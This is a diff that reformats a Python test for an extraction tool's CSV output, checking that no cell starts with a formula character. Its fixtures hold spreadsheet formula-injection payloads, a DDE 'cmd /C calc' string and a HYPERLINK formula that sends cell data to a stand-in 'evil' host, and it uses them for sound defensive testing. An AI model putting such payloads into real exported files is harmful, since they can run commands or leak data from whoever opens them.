@@ -17,18 +17,31 @@ from extractor.models import Extraction, Issue
 from extractor.output import write
 from extractor.output.flat import FORMULA_TRIGGERS
 
-FORMULAS = ["=cmd|' /C calc'!A0问题整改不到位", '=HYPERLINK("http://evil/?"&A1,"点击")', "+1+2问题", "-1+2问题",
-            "@SUM(A1)问题"]
+FORMULAS = [
+    "=cmd|' /C calc'!A0问题整改不到位",
+    '=HYPERLINK("http://evil/?"&A1,"点击")',
+    "+1+2问题",
+    "-1+2问题",
+    "@SUM(A1)问题",
+]
 
 
 def hostile_extraction() -> Extraction:
-    issues = [Issue(id=str(n), problem=text, category='=HYPERLINK("http://evil/?"&A1,"点击")', measures=[text, "措施"],
-                    span=(0, 1)) for n, text in enumerate(FORMULAS, 1)]
+    issues = [
+        Issue(
+            id=str(n),
+            problem=text,
+            category='=HYPERLINK("http://evil/?"&A1,"点击")',
+            measures=[text, "措施"],
+            span=(0, 1),
+        )
+        for n, text in enumerate(FORMULAS, 1)
+    ]
     return Extraction(source="=evil.txt", issues=issues, warnings=["=1+1"])
 
 
 def hostile_failure() -> Failure:
-    return Failure(source="=bad.txt", error=ErrorInfo(type="InputError", message="=HYPERLINK(\"x\")"))
+    return Failure(source="=bad.txt", error=ErrorInfo(type="InputError", message='=HYPERLINK("x")'))
 
 
 def test_no_csv_cell_starts_with_a_formula_character() -> None:
